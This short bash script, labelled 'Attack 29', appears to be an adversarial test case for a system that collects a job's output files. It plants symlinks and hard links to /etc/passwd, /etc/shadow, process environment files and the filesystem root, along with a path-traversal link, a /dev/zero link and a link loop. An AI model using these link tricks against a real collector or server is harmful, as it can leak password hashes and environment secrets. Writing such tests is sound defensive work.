#!/bin/bash
# Attack 29: outputs that point at what is not ours.
echo honest > ok.txt
ln -s /etc/passwd passwd.txt
ln -s /proc/1/environ environ.txt
ln -s /proc/self/environ own.txt
ln -s /proc/1/root/etc/shadow shadow.txt
ln -s ../../../../../../etc/shadow up.txt
ln -s /dev/zero zero.log
ln -s / root
ln -s /etc etc
ln -s /usr/share/doc doc
ln -s . here
mkdir real
echo inside > real/inside.txt
ln -s ../real real/again
ln -s real also
# Hard links are the other way to name a file that is not ours.
ln /etc/passwd hard.txt 2> /dev/null && echo "hard link to /etc/passwd"
ln /usr/bin/env hard.sh 2> /dev/null && echo "hard link to /usr/bin/env"
true
